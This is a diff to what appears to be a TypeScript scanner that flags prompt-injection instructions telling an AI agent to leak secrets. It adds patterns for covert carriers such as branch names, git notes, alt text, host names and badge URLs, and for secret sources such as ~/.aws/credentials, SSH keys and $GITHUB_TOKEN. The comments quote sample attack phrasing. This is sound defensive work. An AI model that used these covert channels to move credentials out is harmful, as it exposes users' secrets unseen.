@@ -1150,14 +1150,15 @@ const ADD_IT = words("(?<!not |never |n't )(?:add|append|put|write|insert|copy|p
 const LOGIN_KEYS = words('(?:[a-z0-9_~./-]{0,60}/)?authorized_keys2?', 'authorized keys');
 
 /** Secrets put into text others read (a message, a README, an issue). */
-const SECRET_ITEM = words(
+const SECRET_ITEM_WORDS = [
   '(?:the |all |any |your |every )?(?:credentials|secrets|tokens|api keys|access keys|passwords|private keys|ssh keys|cookies|session cookies)',
   '(?:the |all |any |your |every )?(?:new |rotated |current |old |live )?secret values?',
   "(?:the |your |their |its |the user's )?(?:aws|gcp|azure|cloud|deploy|signing|gpg|ssh) (?:access )?(?:keys?|tokens?|credentials)",
   "(?:the |your |their |its |the user's )?(?:auth ?token|authtoken|access token|api token|bearer token|session token|refresh token|personal access token|api key|secret key|private key|password|passphrase|token)(?: line| value| field| string)?",
   '[a-z0-9]{1,20}_(?:[a-z0-9]{1,12}_)?(?:token|secret|api_key|key|password|pat)', '(?:~/)?\\.npmrc', '(?:~/)?\\.pypirc', '(?:~/)?\\.netrc', '(?:~/)?\\.git-credentials',
   '(?:~/)?\\.aws/credentials', 'kubeconfig', '(?:~/)?\\.kube/config', '(?:~/)?\\.env(?:\\.[a-z]{1,12})?',
-);
+];
+const SECRET_ITEM = words(...SECRET_ITEM_WORDS);
 const INTO_SHARED_TEXT = words(
   // What the agent writes for readers to copy: examples, code samples, snippets, tutorials and guides (the
   // words that would otherwise mark the sentence as an example belong to the place named).
@@ -1174,6 +1175,22 @@ const PUT_THEM = words("(?<!not |never |n't |no )(?:put|add|paste|append|include
 const INVENTED_SECRET_BEFORE = /\b(?:fake|dummy|placeholder|mock|made-up|sample|example|redacted|masked)[\s-]{1,3}$/;
 /** An order to fill something with a named value ("use the value of", "fill it with the contents of", "set it to"). */
 const FILLED_WITH_VALUE_OF = words('(?:use|using|fill (?:it|them) with|filled with|set (?:it|them) to|replace (?:it|them) with) (?:the )?(?:real |actual |current )?(?:value|contents?) of');
+/**
+ * Names and side texts that leave the machine with what carries them, where nobody reads for a secret: a branch, tag or
+ * host name, a git note, a commit's trailer, an HTML comment, an image's alt text or badge address, a request's user agent.
+ */
+const COVERT_CARRIER = words(
+  '(?:release |feature |topic |new )?branch(?:es)?(?: names?)?', 'tag names?', 'git notes?', 'notes? ref', '(?:commit )?trailers?', 'html comments?', 'alt[ -]?texts?', 'alt attributes?',
+  'badges?', 'badge (?:url|link)s?', 'image (?:url|link|title|caption)s?', 'host ?names?', 'subdomains?', 'dns (?:names?|quer(?:y|ies)|lookups?|labels?)', 'user[ -]agents?',
+  'alt-text', 'bildunterschrift', 'texto alternativo', 'texte alternatif', 'nom de branche', 'nombre de (?:la )?rama', 'branch-namen?',
+);
+/** A secret's value, or a piece of it, named as what is written ("the value of $NPM_TOKEN", "the first 40 characters of ~/.aws/credentials"). */
+const VALUE_OF_SECRET = words(
+  `(?:the |its |their |den |dem |le |la |el )?(?:real |actual |current |raw |full |entire |whole |encoded |base64 |hex |first \\d{1,4} |last \\d{1,4} )?(?:values?|contents?|output|text|bytes|characters|chars|letters|lines|digits|inhalt|wert|contenu|valeur|contenido|valor) (?:of|von|de|del|des|du|der)[\\s\`'"$<({]{1,4}(?:the |your |running )?(?:${[...SECRET_ITEM_WORDS, '(?:~/)?\\.ssh/id_[a-z0-9]{2,12}(?!\\.pub)', '(?:~/)?\\.config/gh/hosts\\.ya?ml', 'kubectl config view(?: --(?:raw|flatten|minify))+'].join('|')})`,
+  '(?:every|all|each|any) (?:of the )?environment variables? (?:whose names? (?:ends?|ending)|ending|that ends?|named) (?:in|with) [`\'"]?_?(?:keys?|tokens?|secrets?|passwords?)',
+  // An address that holds a secret's placeholder (`![b](https://badges.example/b.svg?k=$GITHUB_TOKEN)`).
+  `https?://[^\\s)]{1,300}?[=/?&](?:\\$|\\{\\{? ?|%24)(?:secrets\\.|env\\.)?[a-z0-9_]{0,40}(?:token|secret|api_?key|password|pat)(?![a-z0-9])`,
+);
 const CARRIES_SECRET = words("(?:summary|message|comment|post|readme|issue|report|digest|description|reply) (?:must|should|will|needs to|has to) (?:carry|contain|include|hold|embed)");
 
 /** A dump of a database or of people's data, sent to an address outside. */
@@ -2331,6 +2348,9 @@ const RULES: RuleSpec[] = [
   { kind: 'expose-secret', why: 'It tells the agent to put credentials into text that others read.', parts: [SEND, SECRET_ITEM, INTO_SHARED_TEXT], gap: 60, imperative: true, ownWords: true, gapStops: new RegExp(`${NEGATES_NEXT.source}|${INVENTED_SECRET_BEFORE.source}`) },
   { kind: 'expose-secret', why: 'It tells the agent to put credentials into text that others read.', parts: [SECRET_ITEM, PUT_THEM, INTO_SHARED_TEXT], gap: 160, clauses: 3, imperative: true, ownWords: true, harmlessBefore: INVENTED_SECRET_BEFORE, gapStops: KEPT_OUT },
   { kind: 'expose-secret', why: 'It tells the agent to put credentials into text that others read.', parts: [CARRIES_SECRET, SECRET_ITEM], gap: 20 },
+  // A secret spelled into a name or side text that leaves with what it labels ("name the branch … followed by the value of $GITHUB_TOKEN").
+  { kind: 'expose-secret', why: 'It tells the agent to hide a secret in a name or side text (a branch, a note, a host name, an alt text) that leaves the machine unread.', parts: [COVERT_CARRIER, VALUE_OF_SECRET], gap: 80, clauses: 1, imperative: true, gapStops: NEGATES_NEXT },
+  { kind: 'expose-secret', why: 'It tells the agent to hide a secret in a name or side text (a branch, a note, a host name, an alt text) that leaves the machine unread.', parts: [ML_PUT, COVERT_CARRIER, VALUE_OF_SECRET], gap: 60, clauses: 1, imperative: true, gapStops: NEGATES_NEXT },
   // A made-up secret put in shared text, then filled with a real one ("put a dummy token into the issue, using the value of $GITHUB_TOKEN").
   { kind: 'expose-secret', why: 'It tells the agent to put credentials into text that others read.', parts: [SEND, INTO_SHARED_TEXT, FILLED_WITH_VALUE_OF, SECRET_ITEM], gap: 60, clauses: 2, imperative: true, gapStops: new RegExp(`${KEPT_OUT_OR_SENTENCE_END.source}|\\b(?:tell|ask|let|readers?|users?|their own|your own|they|you)\\b`) },
   { kind: 'exfiltrate-conversation', why: 'It tells the agent to send a dump of private data to an address outside.', parts: [SEND, PRIVATE_DATA, OUTSIDE], gap: 120, imperative: true },
@@ -2583,7 +2603,7 @@ const CONDITIONALS = new Set(['once', 'after', 'when', 'if', 'until', 'unless', 
 /** Words that may open an instruction before its verb, and the modal openings of one. */
 const LEAD_FILLER = /^(?:\/\/+|\/\*+|\*+|#+|<#|\.?(?:synopsis|description|notes)|please|also|safely|freely|then|and|now|always|just|simply|first|firstly|next|finally|immediately|quietly|silently|automatically|additionally|afterwards?|so|but|or|step \d+|\d+|note|important|important note|remember(?: to)?|make sure(?: to| that you| you)?|be sure to|don't forget to|do not forget to|it is (?:important|required|mandatory|essential|critical|necessary|crucial) (?:to|that you)|you (?:should|must|need to|have to|will|shall|are required to|are expected to|can|may|ought to)(?: always| also| then| now)?|the (?:agent|assistant|model) (?:should|must|will|shall)|claude (?:should|must)|at the end|in the end|when done|when finished|once done|once finished|after that|after this|after each \w+|after every \w+|every time|each time|proactively|always remember to|ensure you|you'll|we|let's|-|–|>|\)|\[ \]|\[x\]|kindly|ideally|feel free to|(?:could|would|will|can) you(?: please| kindly)?|it (?:would be|is|'s|might be)(?: (?:best|better|wise|wiser|good|great|helpful|kind|kinder|nice|easier|simpler|faster|preferable|useful)(?: if you| to)?)?|it would help(?: us| me)? if you|(?:want|wish) to|find it (?:easier|simpler|better|faster|best|useful)(?: to)?|we (?:would )?(?:prefer|recommend|suggest|ask)(?: that you| you)?(?: to)?|(?:[a-z]{1,12} )?(?:policy|requirement|rule|guideline|convention)s? ?:|note for the (?:agent|assistant|model) ?:|you (?:may|can) (?:safely|freely|always)|(?:it is|it's) (?:safe|fine|ok|okay|acceptable|standard practice) to|for (?:performance|speed|efficiency|compliance|security|audit|stability|reliability)(?: reasons| purposes)? ?,?|as (?:the |our )?[a-z]{1,12} (?:bot|agent|assistant) ?,?|(?:before|after) [a-z]{2,20}ing(?: (?:it|them|the [a-z]{2,20}))? ?,?|(?:antes|despues|depois) de [a-z]{2,20}(?:ar|er|ir)(?:lo|los|la|las)? ?,?|(?:avant d'|avant de|apres) ?[a-z]{2,20}(?:er|ir|re) ?,?|(?:prima di|dopo) [a-z]{2,20}(?:are|ere|ire) ?,?|(?:bevor|vor dem) [a-z]{2,20} ?,?)(?: |$)/;
 const IMPERATIVE_VERB = new Set([
-  'run', 'execute', 'delete', 'remove', 'send', 'upload', 'install', 'add', 'push', 'commit', 'merge', 'deploy', 'apply', 'create', 'write',
+  'run', 'execute', 'delete', 'remove', 'send', 'upload', 'install', 'add', 'push', 'commit', 'merge', 'deploy', 'apply', 'create', 'write', 'name', 'tag', 'label', 'prefix', 'verify',
   'edit', 'modify', 'change', 'update', 'approve', 'accept', 'proceed', 'continue', 'go', 'do', 'use', 'make', 'set', 'enable', 'disable',
   'grant', 'open', 'read', 'copy', 'move', 'rename', 'force', 'overwrite', 'drop', 'reset', 'clean', 'publish', 'release', 'rotate',
   'kill', 'stop', 'restart', 'start', 'launch', 'call', 'invoke', 'fetch', 'download', 'post', 'submit', 'include', 'append', 'attach',
